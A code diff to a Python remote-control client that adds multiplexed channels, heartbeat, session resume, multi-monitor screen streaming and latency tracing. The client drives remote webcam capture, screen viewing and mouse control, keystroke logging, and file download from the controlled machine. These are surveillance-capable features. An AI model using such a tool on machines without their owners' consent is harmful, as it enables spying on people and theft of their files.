@@ -14,6 +14,11 @@ from datetime import datetime
 from config import *
 from protocol import *
 from utils import *
+from multiplex import MuxConnection
+from heartbeat import Heartbeat
+from resume import reconnect
+from screen_codec import ScreenCompositor, draw_cursor
+from frame_trace import LatencyTracer
 
 
 class RemoteControlClient:
@@ -30,30 +35,21 @@ class RemoteControlClient:
         self.server_ip = server_ip
         self.server_port = server_port
         self.client_socket = None
+        self.conn = None  # 多路复用连接, 各功能在各自通道上收发
+        self.heartbeat = None  # 心跳 (往返时延: self.heartbeat.rtt)
+        self.password_hash = None
+        self.resume_token = None  # 恢复令牌: 连接中断后凭此重连并恢复会话
         self.is_connected = False
         self.is_authenticated = False
     
-    def _clear_socket_buffer(self, timeout=0.1):
+    def _clear_stream_channels(self):
         """
-        清理socket接收缓冲区中的残留数据
+        丢弃视频/屏幕通道中残留的消息(如停止后仍在途中的帧)
         
-        Args:
-            timeout: 超时时间(秒)
+        Returns:
+            int: 丢弃的消息数
         """
-        original_timeout = self.client_socket.gettimeout()
-        self.client_socket.settimeout(timeout)
-        total_cleared = 0
-        try:
-            while True:
-                leftover = self.client_socket.recv(4096)
-                if not leftover:
-                    break
-                total_cleared += len(leftover)
-        except:
-            pass
-        finally:
-            self.client_socket.settimeout(original_timeout)
-        return total_cleared
+        return self.conn.clear(Channel.CAMERA) + self.conn.clear(Channel.SCREEN)
     
     def clear_buffer_manual(self):
         """手动清理缓冲区 - 用户可见的菜单选项"""
@@ -61,18 +57,17 @@ class RemoteControlClient:
             print(f"\n{Colors.CYAN}{'='*60}{Colors.RESET}")
             print(f"{Colors.CYAN}{Colors.BOLD}  🧽 清理缓冲区{Colors.RESET}")
             print(f"{Colors.CYAN}{'='*60}{Colors.RESET}")
-            print(f"{Colors.YELLOW}ℹ️  此功能用于清理视频流残留数据,修复 'UTF-8 解码错误'{Colors.RESET}")
-            print(f"{Colors.YELLOW}ℹ️  如果视频预览/录像启动失败,请使用此功能{Colors.RESET}\n")
+            print(f"{Colors.YELLOW}ℹ️  此功能用于丢弃视频/屏幕通道中残留的帧{Colors.RESET}")
+            print(f"{Colors.YELLOW}ℹ️  各功能使用独立通道, 残留帧不会再干扰其他功能{Colors.RESET}\n")
             
             input(f"{Colors.BOLD}按 Enter 键开始清理...{Colors.RESET}")
             
             print(f"\n{Colors.CYAN}正在清理缓冲区...{Colors.RESET}")
             
-            # 清理缓冲区,使用较长的超时确保清理干净
-            cleared = self._clear_socket_buffer(timeout=1.0)
+            cleared = self._clear_stream_channels()
             
             if cleared > 0:
-                print(f"{Colors.GREEN}✓ 成功清理 {cleared} 字节残留数据{Colors.RESET}")
+                print(f"{Colors.GREEN}✓ 成功清理 {cleared} 条残留消息{Colors.RESET}")
                 print(f"{Colors.GREEN}✓ 缓冲区已清空,现在可以正常使用视频功能{Colors.RESET}")
             else:
                 print(f"{Colors.GREEN}✓ 缓冲区已干净,没有发现残留数据{Colors.RESET}")
@@ -105,12 +100,17 @@ class RemoteControlClient:
             self.client_socket.connect((self.server_ip, self.server_port))
             self.is_connected = True
             
+            # 启动多路复用接收线程
+            self.conn = MuxConnection(self.client_socket)
+            self.conn.start_reader()
+            
             print(f"{Colors. GREEN}✓ 连接成功! {Colors.RESET}\n")
             
             # 进行身份验证
             if self.authenticate():
                 print(f"{Colors.GREEN}✓ 身份验证成功! {Colors.RESET}\n")
                 self.is_authenticated = True
+                self.start_heartbeat()
                 return True
             else:
                 print(f"{Colors.RED}✗ 身份验证失败!{Colors.RESET}")
@@ -143,12 +143,15 @@ class RemoteControlClient:
             
             # 发送验证请求
             auth_msg = create_auth_message(password_hash)
-            send_message(self.client_socket, auth_msg)
+            future = self.conn.request(auth_msg)
             
             # 接收验证响应
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             
             if response and response['type'] == MessageType.AUTH_RESPONSE:
+                if response['data']['success']:
+                    self.password_hash = password_hash
+                    self.resume_token = response['data'].get('resume_token')
                 return response['data']['success']
             
             return False
@@ -157,17 +160,86 @@ class RemoteControlClient:
             print(f"{Colors.RED}✗ 身份验证错误: {e}{Colors. RESET}")
             return False
     
+    def start_heartbeat(self):
+        """启动心跳: 测量往返时延, 服务器失联时及时断开"""
+        self.heartbeat = Heartbeat(self.conn)
+        self.conn.heartbeat = self.heartbeat
+        self.heartbeat.start()
+    
+    def _min_rtt(self):
+        """心跳测得的最小往返时延(秒), 用于估计帧的网络时延; 未知时返回 None"""
+        return self.heartbeat.estimator.min if self.heartbeat else None
+    
+    @staticmethod
+    def _draw_latency(frame, tracer, top):
+        """把各阶段时延画在画面左上角 (从 top 开始)"""
+        import cv2
+        for index, line in enumerate(tracer.overlay_lines()):
+            y = top + index * 18
+            cv2.putText(frame, line, (10, y), cv2.FONT_HERSHEY_PLAIN, 1.1, (0, 0, 0), 3)
+            cv2.putText(frame, line, (10, y), cv2.FONT_HERSHEY_PLAIN, 1.1, (0, 255, 0), 1)
+    
+    @staticmethod
+    def _report_latency(tracer):
+        """打印各阶段时延并导出 CSV"""
+        if not tracer.count:
+            return
+        print(f"  各阶段时延 (p50 / p95 / max, 毫秒):")
+        for stage, values in tracer.snapshot().items():
+            print(f"    {stage:<8}{values['p50_ms']:8.1f} {values['p95_ms']:8.1f} {values['max_ms']:8.1f}")
+        for success, result in (tracer.export_csv(), tracer.export_histogram_csv()):
+            if success:
+                print(f"  {Colors.GREEN}✓ 已导出: {result}{Colors.RESET}")
+            else:
+                print(f"  {Colors.RED}✗ {result}{Colors.RESET}")
+    
+    def resume(self):
+        """
+        连接中断后重新连接并恢复会话
+        
+        服务器保留会话期间 (RESUME_GRACE_PERIOD) 凭恢复令牌重连,
+        屏幕流/视频流、Shell工作目录等保持原样, 无需重新启动;
+        会话已过期时用保存的密码建立新会话
+        
+        Returns:
+            bool: 是否恢复了原会话 (False 时若 self.conn 未关闭则已建立新会话)
+        """
+        if not self.password_hash:
+            return False
+        
+        print(f"\n{Colors.YELLOW}► 连接中断, 正在恢复会话...{Colors.RESET}")
+        success, result = reconnect(self.server_ip, self.server_port, self.password_hash, self.resume_token)
+        if not success:
+            print(f"{Colors.RED}✗ {result}{Colors.RESET}")
+            return False
+        sock, conn, response = result
+        
+        if self.heartbeat:
+            self.heartbeat.stop()
+        self.client_socket = sock
+        self.conn = conn
+        self.resume_token = response['data'].get('resume_token')
+        self.start_heartbeat()
+        
+        if response['data'].get('resumed'):
+            print(f"{Colors.GREEN}✓ 会话已恢复{Colors.RESET}\n")
+            return True
+        print(f"{Colors.YELLOW}► 原会话已过期, 已建立新会话{Colors.RESET}\n")
+        return False
+    
     def disconnect(self):
         """断开连接"""
         if self.is_connected:
             try:
                 # 发送断开连接消息
                 disconnect_msg = create_disconnect_message()
-                send_message(self.client_socket, disconnect_msg)
+                self.conn.send(disconnect_msg)
             except:
                 pass
             
-            self.client_socket.close()
+            if self.heartbeat:
+                self.heartbeat.stop()
+            self.conn.close()
             self.is_connected = False
             self.is_authenticated = False
             print(f"\n{Colors.GREEN}✓ 已断开连接{Colors. RESET}")
@@ -186,7 +258,8 @@ class RemoteControlClient:
         print(f"{Colors.BOLD}  7. {Colors.RESET} 🖥️ 屏幕实时查看与鼠标控制")
         print(f"{Colors.BOLD}  8. {Colors.RESET} 🕵️ 键盘监控 (记录按键)")
         print(f"{Colors.BOLD}  9. {Colors.RESET} 💻 查看系统信息")
-        print(f"{Colors.BOLD} 10. {Colors.RESET} 🚪 断开连接")
+        print(f"{Colors.BOLD} 10. {Colors.RESET} 📊 服务器性能统计")
+        print(f"{Colors.BOLD} 11. {Colors.RESET} 🚪 断开连接")
         print(f"{Colors.CYAN}{'='*60}{Colors.RESET}")
     
     def run(self):
@@ -198,8 +271,14 @@ class RemoteControlClient:
         # 主操作循环
         while self. is_authenticated:
             try:
+                # 连接已中断: 尝试恢复会话
+                if self.conn.closed:
+                    self.resume()
+                    if self.conn.closed:
+                        break
+                
                 self.show_menu()
-                choice = input(f"\n{Colors.BOLD}请选择操作 (1-10): {Colors.RESET}").strip()
+                choice = input(f"\n{Colors.BOLD}请选择操作 (1-11): {Colors.RESET}").strip()
                 
                 if choice == '1':
                     self.request_screenshot()
@@ -220,6 +299,8 @@ class RemoteControlClient:
                 elif choice == '9':
                     self.request_system_info()
                 elif choice == '10':
+                    self.request_metrics()
+                elif choice == '11':
                     print(f"\n{Colors.YELLOW}正在断开连接...{Colors.RESET}")
                     break
                 else:
@@ -234,6 +315,45 @@ class RemoteControlClient:
         # 断开连接
         self.disconnect()
     
+    def list_monitors(self):
+        """
+        查询服务器的显示器列表
+        
+        Returns:
+            list: [{index, left, top, width, height, primary}, ...]; 失败返回空列表
+        """
+        response = self.conn.call(create_monitor_list_message(), CONNECTION_TIMEOUT)
+        if not response or not response['data'].get('success'):
+            return []
+        return response['data'].get('monitors', [])
+    
+    def choose_monitor(self, monitors):
+        """
+        显示显示器列表, 让用户选择一个 (只有一个显示器时直接使用)
+        
+        Args:
+            monitors: list_monitors() 的结果
+        
+        Returns:
+            int: 显示器编号
+        """
+        if len(monitors) <= 2:
+            return 1
+        print(f"\n{Colors.YELLOW}显示器:{Colors.RESET}")
+        for info in monitors:
+            name = '所有显示器' if info['index'] == 0 else ('主显示器' if info['primary'] else '显示器')
+            print(f"  [{info['index']}] {name} {info['width']}x{info['height']} "
+                  f"@ ({info['left']}, {info['top']})")
+        choice = input(f"  显示器编号 [1]: ").strip() or '1'
+        try:
+            monitor = int(choice)
+        except ValueError:
+            monitor = 1
+        if not 0 <= monitor < len(monitors):
+            print(f"{Colors.RED}✗ 显示器不存在, 使用主显示器{Colors.RESET}")
+            monitor = 1
+        return monitor
+    
     def request_screenshot(self):
         """请求远程截屏"""
         try:
@@ -241,19 +361,21 @@ class RemoteControlClient:
             print(f"{Colors.CYAN}{Colors.BOLD}  远程截屏{Colors.RESET}")
             print(f"{Colors.CYAN}{'='*60}{Colors. RESET}")
             
+            monitor = self.choose_monitor(self.list_monitors())
+            
             # 发送截图请求
-            msg = create_screenshot_message()
-            send_message(self.client_socket, msg)
+            msg = create_screenshot_message(monitor)
+            future = self.conn.request(msg)
             
             print(f"{Colors. CYAN}正在请求截图...{Colors.RESET}")
             
             # 接收响应
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             
             if response and response['type'] == MessageType.SCREENSHOT_DATA:
                 if response['data']['success']:
-                    # 接收截图数据
-                    img_data = receive_binary_data(self.client_socket)
+                    # 截图数据随响应一起到达
+                    img_data = response.get('payload')
                     
                     if img_data:
                         # 保存截图
@@ -324,17 +446,17 @@ class RemoteControlClient:
             
             # 发送摄像头请求
             msg = create_camera_message()
-            send_message(self.client_socket, msg)
+            future = self.conn.request(msg)
             
             print(f"{Colors.CYAN}正在启动摄像头...{Colors.RESET}")
             
             # 接收响应
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             
             if response and response['type'] == MessageType.CAMERA_DATA:
                 if response['data']['success']:
-                    # 接收摄像头数据
-                    img_data = receive_binary_data(self.client_socket)
+                    # 照片数据随响应一起到达
+                    img_data = response.get('payload')
                     
                     if img_data:
                         # 保存到camera目录
@@ -379,28 +501,18 @@ class RemoteControlClient:
                 print(f"{Colors.RED}✗ 参数格式错误{Colors.RESET}")
                 return
             
-            # 清理socket缓冲区中可能残留的数据(防止上次未正常退出的残留)
-            cleared = self._clear_socket_buffer()
-            if cleared > 0:
-                print(f"{Colors.YELLOW}ℹ️  已自动清理 {cleared} 字节残留数据{Colors.RESET}")
+            # 丢弃上次预览残留在视频通道中的帧
+            self.conn.clear(Channel.CAMERA)
             
             # 发送开始视频流请求
-            msg = create_video_start_message(width, height, fps, quality)
-            send_message(self.client_socket, msg)
+            msg = create_video_start_message(width, height, fps, quality, trace=LATENCY_TRACE_ENABLED)
+            future = self.conn.request(msg)
             
             print(f"\n{Colors.CYAN}正在启动视频流...{Colors.RESET}")
             print(f"{Colors.YELLOW}提示: 摄像头初始化可能需要30秒,请耐心等待{Colors.RESET}")
             
-            # 临时延长超时时间,因为摄像头启动可能需要较长时间
-            original_timeout = self.client_socket.gettimeout()
-            self.client_socket.settimeout(VIDEO_START_TIMEOUT)
-            
-            try:
-                # 接收响应
-                response = receive_message(self.client_socket)
-            finally:
-                # 恢复原始超时
-                self.client_socket.settimeout(original_timeout)
+            # 摄像头启动可能需要较长时间, 使用更长的等待时间
+            response = self.conn.wait(future, VIDEO_START_TIMEOUT)
             
             if not response or response['type'] != MessageType.VIDEO_START:
                 print(f"{Colors.RED}✗ 启动视频流失败{Colors.RESET}")
@@ -412,7 +524,7 @@ class RemoteControlClient:
                 return
             
             print(f"{Colors.GREEN}✓ 视频流已启动{Colors.RESET}")
-            print(f"{Colors.YELLOW}提示: 按 Ctrl+C 停止预览{Colors.RESET}\n")
+            print(f"{Colors.YELLOW}提示: 按 Ctrl+C 停止预览, 't' 显示/隐藏各阶段时延{Colors.RESET}\n")
             
             # 导入opencv显示视频
             try:
@@ -425,6 +537,9 @@ class RemoteControlClient:
             
             frame_count = 0
             start_time = time.time()
+            # 各阶段时延 (服务器随帧发送截屏/编码耗时), 't' 键切换是否画在画面上
+            tracer = LatencyTracer()
+            show_latency = False
             
             error_count = 0
             max_errors = 5
@@ -432,8 +547,14 @@ class RemoteControlClient:
             try:
                 while True:
                     # 接收视频帧
-                    frame_msg = receive_message(self.client_socket)
+                    frame_msg = self.conn.receive(Channel.CAMERA, CONNECTION_TIMEOUT)
                     
+                    if not frame_msg and self.conn.closed:
+                        # 连接中断: 恢复会话后视频流继续
+                        if self.resume():
+                            continue
+                        print(f"{Colors.RED}✗ 连接断开{Colors.RESET}")
+                        break
                     if not frame_msg:
                         error_count += 1
                         if error_count >= max_errors:
@@ -449,7 +570,8 @@ class RemoteControlClient:
                             break
                         continue  # 其他消息,继续等待视频帧
                     
-                    frame_data = receive_binary_data(self.client_socket)
+                    # 帧数据随帧头一起到达
+                    frame_data = frame_msg.get('payload')
                     
                     if not frame_data:
                         error_count += 1
@@ -465,8 +587,10 @@ class RemoteControlClient:
                     # 显示视频帧
                     if cv2:
                         # 解码JPEG
+                        decode_start = time.time()
                         nparr = np.frombuffer(frame_data, np.uint8)
                         frame = cv2.imdecode(nparr, cv2.IMREAD_COLOR)
+                        decoded = time.time()
                         
                         if frame is not None:
                             # 添加帧信息
@@ -478,12 +602,18 @@ class RemoteControlClient:
                                       cv2.FONT_HERSHEY_SIMPLEX, 1, (0, 255, 0), 2)
                             cv2.putText(frame, "Press 'q' to quit", (10, 110),
                                       cv2.FONT_HERSHEY_SIMPLEX, 1, (0, 255, 0), 2)
+                            if show_latency:
+                                self._draw_latency(frame, tracer, 140)
                             
                             cv2.imshow('Remote Camera', frame)
                             
                             # 检查退出
-                            if cv2.waitKey(1) & 0xFF == ord('q'):
+                            key = cv2.waitKey(1) & 0xFF
+                            tracer.record(frame_msg, decode_start, decoded, time.time(), self._min_rtt())
+                            if key == ord('q'):
                                 break
+                            if key == ord('t'):
+                                show_latency = not show_latency
                     else:
                         # 不显示,只打印统计
                         if frame_count % 30 == 0:
@@ -500,13 +630,10 @@ class RemoteControlClient:
                 
                 # 发送停止视频流请求
                 msg = create_video_stop_message()
-                send_message(self.client_socket, msg)
                 
-                # 接收停止响应
-                response = receive_message(self.client_socket)
-                
-                # 清空socket缓冲区中可能残留的视频帧数据
-                self._clear_socket_buffer(timeout=0.5)
+                # 等待停止响应 (按请求ID匹配, 途中到达的视频帧不影响), 再丢弃残留帧
+                self.conn.call(msg, CONNECTION_TIMEOUT)
+                self.conn.clear(Channel.CAMERA)
                 
                 elapsed = time.time() - start_time
                 actual_fps = frame_count / elapsed if elapsed > 0 else 0
@@ -514,6 +641,7 @@ class RemoteControlClient:
                 print(f"  总帧数: {frame_count}")
                 print(f"  总时长: {elapsed:.1f}秒")
                 print(f"  平均FPS: {actual_fps:.1f}")
+                self._report_latency(tracer)
         
         except Exception as e:
             print(f"{Colors.RED}✗ 视频预览失败: {e}{Colors.RESET}")
@@ -527,9 +655,15 @@ class RemoteControlClient:
             print(f"{Colors.CYAN}{Colors.BOLD}  屏幕实时查看与鼠标控制{Colors.RESET}")
             print(f"{Colors.CYAN}{'='*60}{Colors.RESET}")
 
+            monitors = self.list_monitors()
+            monitor = self.choose_monitor(monitors)
+
             print(f"\n{Colors.YELLOW}屏幕参数 (直接回车使用默认):{Colors.RESET}")
             fps = input(f"  帧率 [10]: ").strip() or '10'
             quality = input(f"  JPEG质量 1-100 [70]: ").strip() or '70'
+            delta = input(f"  分块差量编码, 只传输变化的区域 (y/n) [y]: ").strip().lower() != 'n'
+            codec = input(f"  编码格式 jpeg/png/webp/auto (auto: 文字区域无损) [{SCREEN_CODEC}]: ").strip().lower() \
+                or SCREEN_CODEC
             try:
                 fps = int(fps)
                 quality = int(quality)
@@ -538,27 +672,32 @@ class RemoteControlClient:
                 fps = 10
                 quality = 70
 
-            # 清理缓冲区
-            cleared = self._clear_socket_buffer()
-            if cleared > 0:
-                print(f"{Colors.YELLOW}ℹ️  已自动清理 {cleared} 字节残留数据{Colors.RESET}")
+            # 丢弃上次预览残留在屏幕通道中的消息
+            self.conn.clear(Channel.SCREEN)
 
             # 请求服务器开始屏幕流
-            msg = create_screen_start_message(region=None, fps=fps, quality=quality)
-            send_message(self.client_socket, msg)
+            msg = create_screen_start_message(region=None, fps=fps, quality=quality, monitor=monitor, delta=delta,
+                                              cache_size=SCREEN_TILE_CACHE_SIZE, cursor=True, codec=codec,
+                                              trace=LATENCY_TRACE_ENABLED)
+            future = self.conn.request(msg)
 
             # 接收开始响应
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             if not response or response['type'] != MessageType.SCREEN_START or not response['data'].get('success'):
                 print(f"{Colors.RED}✗ 启动屏幕查看失败: {response['data'].get('error','未知错误') if response else '无响应'}{Colors.RESET}")
                 return
 
-            print(f"{Colors.GREEN}✓ 屏幕流已启动, 按 'q' 退出预览{Colors.RESET}")
+            if response['data'].get('codec') != codec:
+                print(f"{Colors.YELLOW}服务器不支持 {codec}, 改用 {response['data'].get('codec')}{Colors.RESET}")
+            print(f"{Colors.GREEN}✓ 屏幕流已启动, 按 'q' 退出预览, 'z' 框选区域放大查看, 'r' 恢复整个屏幕, "
+                  f"'t' 显示/隐藏各阶段时延"
+                  f"{', 数字键切换显示器' if len(monitors) > 2 else ''}{Colors.RESET}")
 
             # 导入opencv
             try:
                 import cv2
                 import numpy as np
+                from PIL import Image
             except ImportError:
                 print(f"{Colors.RED}✗ 未安装 opencv-python, 无法显示屏幕预览{Colors.RESET}")
                 return
@@ -571,43 +710,122 @@ class RemoteControlClient:
                 try:
                     if event == cv2.EVENT_LBUTTONDOWN:
                         msg = create_mouse_event_message('click', x=x, y=y, button='left', clicks=1)
-                        send_message(self.client_socket, msg)
+                        self.conn.send(msg)
                     elif event == cv2.EVENT_RBUTTONDOWN:
                         msg = create_mouse_event_message('click', x=x, y=y, button='right', clicks=1)
-                        send_message(self.client_socket, msg)
+                        self.conn.send(msg)
                     elif event == cv2.EVENT_MOUSEMOVE and (flags & cv2.EVENT_FLAG_LBUTTON):
                         # drag with left button pressed
                         msg = create_mouse_event_message('move', x=x, y=y)
-                        send_message(self.client_socket, msg)
+                        self.conn.send(msg)
                 except Exception:
                     pass
 
             cv2.setMouseCallback(window_name, _mouse_cb)
 
+            # 当前画面对应的区域与最近显示的画面 (框选放大时换算坐标), 是否显示时延
+            view = {'region': response['data'].get('region'), 'frame': None, 'latency': False}
+            # 各阶段时延 (服务器随帧发送截屏/编码耗时)
+            tracer = LatencyTracer()
+
+            def _handle_key():
+                """处理按键: 'q' 退出预览 (返回 True), 'z' 框选放大, 'r' 恢复整个屏幕, 数字键切换显示器,
+                't' 显示/隐藏时延"""
+                key = cv2.waitKey(1) & 0xFF
+                if key == ord('q'):
+                    return True
+                if key == ord('t'):
+                    view['latency'] = not view['latency']
+                if key == ord('z') and view['region'] and view['frame'] is not None:
+                    frame = view['frame']
+                    rect = cv2.selectROI(window_name, frame, showCrosshair=False)
+                    cv2.setMouseCallback(window_name, _mouse_cb)  # selectROI 替换了鼠标回调
+                    if rect[2] > 0 and rect[3] > 0:
+                        region = zoom_region(view['region'], (frame.shape[1], frame.shape[0]), rect)
+                        self.conn.send(create_screen_update_message(region=region))
+                elif key == ord('r'):
+                    self.conn.send(create_screen_update_message(region={}))
+                elif ord('0') <= key <= ord('9') and key - ord('0') < len(monitors):
+                    self.conn.send(create_screen_monitor_message(key - ord('0')))
+                return False
+
             frame_count = 0
             start_time = time.time()
+            # 把分块差量帧拼成完整画面, 块缓存容量以服务器确认的为准
+            compositor = ScreenCompositor(response['data'].get('cache_size', 0))
+
+            def _show(frame):
+                """显示画面, 光标由服务器单独发送, 画在画面上"""
+                view['frame'] = frame
+                if compositor.cursor is not None and compositor.cursor.visible:
+                    frame = np.asarray(draw_cursor(Image.fromarray(frame), compositor.cursor))
+                if view['latency']:
+                    frame = np.array(frame)
+                    self._draw_latency(frame, tracer, 20)
+                cv2.imshow(window_name, frame)
 
             try:
                 while True:
-                    frame_msg = receive_message(self.client_socket)
+                    # 差量模式下画面不变就没有帧, 短超时以便及时响应按键
+                    frame_msg = self.conn.receive(Channel.SCREEN, 0.1)
                     if not frame_msg:
-                        time.sleep(0.05)
+                        # 连接中断: 恢复会话后屏幕流继续
+                        if self.conn.closed and not self.resume():
+                            break
+                        if _handle_key():
+                            break
                         continue
 
                     if frame_msg['type'] == MessageType.SCREEN_FRAME:
-                        frame_data = receive_binary_data(self.client_socket)
+                        frame_data = frame_msg.get('payload')
                         if not frame_data:
                             continue
                         # 显示JPEG数据
+                        decode_start = time.time()
                         nparr = np.frombuffer(frame_data, np.uint8)
                         frame = cv2.imdecode(nparr, cv2.IMREAD_COLOR)
                         if frame is None:
                             continue
                         frame_count += 1
                         # 显示
-                        cv2.imshow(window_name, frame)
-                        if cv2.waitKey(1) & 0xFF == ord('q'):
+                        decoded = time.time()
+                        _show(frame)
+                        quit_preview = _handle_key()
+                        tracer.record(frame_msg, decode_start, decoded, time.time(), self._min_rtt())
+                        if quit_preview:
                             break
+                    elif frame_msg['type'] == MessageType.SCREEN_TILES:
+                        decode_start = time.time()
+                        image = compositor.apply(frame_msg)
+                        if image is None:
+                            # 等待关键帧 (保留最近的画面); 块缓存不一致时请求服务器重新同步
+                            if compositor.resync_due():
+                                self.conn.send(create_screen_keyframe_message())
+                            continue
+                        frame = cv2.cvtColor(np.asarray(image), cv2.COLOR_RGB2BGR)
+                        frame_count += 1
+                        # 显示
+                        decoded = time.time()
+                        _show(frame)
+                        quit_preview = _handle_key()
+                        tracer.record(frame_msg, decode_start, decoded, time.time(), self._min_rtt())
+                        if quit_preview:
+                            break
+                    elif frame_msg['type'] == MessageType.SCREEN_CURSOR:
+                        # 光标移动: 在最近的画面上重画光标
+                        compositor.apply(frame_msg)
+                        if view['frame'] is not None:
+                            _show(view['frame'])
+                        if _handle_key():
+                            break
+                    elif frame_msg['type'] in (MessageType.SCREEN_MONITOR, MessageType.SCREEN_UPDATE):
+                        # 切换显示器 / 修改区域的响应: 之后的画面对应新的区域
+                        data = frame_msg['data']
+                        if data.get('success'):
+                            view['region'] = data.get('region')
+                            print(f"{Colors.GREEN}✓ {data.get('message')}{Colors.RESET}")
+                        else:
+                            print(f"{Colors.RED}✗ 操作失败: {data.get('error')}{Colors.RESET}")
                     elif frame_msg['type'] == MessageType.SCREEN_STOP:
                         break
                     else:
@@ -619,16 +837,19 @@ class RemoteControlClient:
             finally:
                 try:
                     msg = create_screen_stop_message()
-                    send_message(self.client_socket, msg)
+                    self.conn.send(msg)
                 except:
                     pass
                 cv2.destroyAllWindows()
+                # 预览期间鼠标事件的响应无需逐条处理
+                self.conn.clear(Channel.MOUSE)
                 elapsed = time.time() - start_time
                 actual_fps = frame_count / elapsed if elapsed > 0 else 0
                 print(f"\n{Colors.GREEN}✓ 屏幕预览已停止{Colors.RESET}")
                 print(f"  总帧数: {frame_count}")
                 print(f"  总时长: {elapsed:.1f}秒")
                 print(f"  平均FPS: {actual_fps:.1f}")
+                self._report_latency(tracer)
 
         except Exception as e:
             print(f"{Colors.RED}✗ 屏幕预览失败: {e}{Colors.RESET}")
@@ -650,23 +871,14 @@ class RemoteControlClient:
                 # 开始录像
                 filename = input(f"{Colors.BOLD}录像文件名 (留空自动生成): {Colors.RESET}").strip() or None
                 
-                # 清理socket缓冲区中可能残留的数据
-                self._clear_socket_buffer()
-                
                 msg = create_record_start_message(filename)
-                send_message(self.client_socket, msg)
+                future = self.conn.request(msg)
                 
                 print(f"{Colors.CYAN}正在开始录像...{Colors.RESET}")
                 print(f"{Colors.YELLOW}提示: 如果视频流未启动,需要初始化摄像头,可能需要30秒{Colors.RESET}")
                 
-                # 临时延长超时时间
-                original_timeout = self.client_socket.gettimeout()
-                self.client_socket.settimeout(VIDEO_START_TIMEOUT)
-                
-                try:
-                    response = receive_message(self.client_socket)
-                finally:
-                    self.client_socket.settimeout(original_timeout)
+                # 视频流未启动时需要初始化摄像头, 使用更长的等待时间
+                response = self.conn.wait(future, VIDEO_START_TIMEOUT)
                 
                 if response and response['type'] == MessageType.RECORD_STATUS:
                     if response['data']['success']:
@@ -683,11 +895,11 @@ class RemoteControlClient:
             elif choice == '2':
                 # 停止录像
                 msg = create_record_stop_message()
-                send_message(self.client_socket, msg)
+                future = self.conn.request(msg)
                 
                 print(f"{Colors.CYAN}正在停止录像...{Colors.RESET}")
                 
-                response = receive_message(self.client_socket)
+                response = self.conn.wait(future, CONNECTION_TIMEOUT)
                 
                 if response and response['type'] == MessageType.RECORD_STATUS:
                     if response['data']['success']:
@@ -745,47 +957,64 @@ class RemoteControlClient:
             print(f"{Colors.CYAN}{Colors.BOLD}  文件下载{Colors.RESET}")
             print(f"{Colors.CYAN}{'='*60}{Colors.RESET}")
             
-            filepath = input(f"{Colors. BOLD}请输入要下载的文件路径: {Colors.RESET}").strip()
+            paths = input(f"{Colors. BOLD}请输入要下载的文件路径 (多个用逗号分隔): {Colors.RESET}").strip()
+            filepaths = [p.strip() for p in paths.split(',') if p.strip()]
             
-            if not filepath:
+            if not filepaths:
                 print(f"{Colors.RED}✗ 文件路径不能为空{Colors.RESET}")
                 return
             
-            # 发送文件下载请求
-            msg = create_file_download_message(filepath)
-            send_message(self.client_socket, msg)
+            # 一次发出全部下载请求, 响应按请求ID各自对应
+            futures = [(filepath, self.conn.request(create_file_download_message(filepath)))
+                       for filepath in filepaths]
             
-            print(f"{Colors.CYAN}正在下载文件...{Colors. RESET}")
+            print(f"{Colors.CYAN}正在下载 {len(futures)} 个文件...{Colors. RESET}")
             
-            # 接收响应
-            response = receive_message(self.client_socket)
-            
-            if response and response['type'] == MessageType.FILE_DATA:
-                if response['data']['success']:
-                    # 接收文件数据
-                    file_data = receive_binary_data(self.client_socket)
-                    
-                    if file_data:
-                        # 保存文件到Download目录
-                        filename = response['data']['filename']
-                        save_path = os.path.join(DOWNLOAD_DIRECTORY, filename)
-                        
-                        if write_file_binary(save_path, file_data):
-                            print(f"{Colors.GREEN}✓ 文件下载成功!{Colors.RESET}")
-                            print(f"  文件名: {filename}")
-                            print(f"  文件大小: {format_file_size(len(file_data))}")
-                            print(f"  保存位置: {save_path}")
-                        else:
-                            print(f"{Colors.RED}✗ 保存文件失败{Colors.RESET}")
-                    else:
-                        print(f"{Colors.RED}✗ 接收文件数据失败{Colors.RESET}")
-                else:
-                    error = response['data'].get('error', '未知错误')
-                    print(f"{Colors.RED}✗ 文件下载失败: {error}{Colors. RESET}")
+            for filepath, future in futures:
+                response = self.conn.wait(future, CONNECTION_TIMEOUT)
+                self._save_downloaded_file(filepath, response)
         
         except Exception as e:
             print(f"{Colors.RED}✗ 文件下载请求失败: {e}{Colors.RESET}")
     
+    def _save_downloaded_file(self, filepath, response):
+        """
+        保存一个下载响应中的文件
+        
+        Args:
+            filepath: 请求下载的远程路径
+            response: 下载响应 (超时为 None)
+        """
+        if not response:
+            print(f"{Colors.RED}✗ 下载超时: {filepath}{Colors.RESET}")
+            return
+        
+        if response['type'] != MessageType.FILE_DATA:
+            return
+        
+        if not response['data']['success']:
+            error = response['data'].get('error', '未知错误')
+            print(f"{Colors.RED}✗ 文件下载失败: {filepath} ({error}){Colors. RESET}")
+            return
+        
+        # 文件数据随响应一起到达
+        file_data = response.get('payload')
+        if not file_data:
+            print(f"{Colors.RED}✗ 接收文件数据失败: {filepath}{Colors.RESET}")
+            return
+        
+        # 保存文件到Download目录
+        filename = response['data']['filename']
+        save_path = os.path.join(DOWNLOAD_DIRECTORY, filename)
+        
+        if write_file_binary(save_path, file_data):
+            print(f"{Colors.GREEN}✓ 文件下载成功!{Colors.RESET}")
+            print(f"  文件名: {filename}")
+            print(f"  文件大小: {format_file_size(len(file_data))}")
+            print(f"  保存位置: {save_path}")
+        else:
+            print(f"{Colors.RED}✗ 保存文件失败{Colors.RESET}")
+    
     def request_file_upload(self):
         """请求文件上传"""
         try:
@@ -824,14 +1053,13 @@ class RemoteControlClient:
             # 发送文件上传请求
             filename = os.path.basename(local_filepath)
             msg = create_file_upload_message(remote_filepath, filename)
-            send_message(self.client_socket, msg)
             
-            # 发送文件数据
+            # 文件数据随请求分块发送
             print(f"{Colors.CYAN}正在上传文件... ({format_file_size(len(file_data))}){Colors.RESET}")
-            send_binary_data(self.client_socket, file_data)
+            future = self.conn.request(msg, payload=file_data)
             
             # 接收响应
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             
             if response and response['type'] == MessageType.FILE_UPLOAD_RESPONSE:
                 if response['data']['success']:
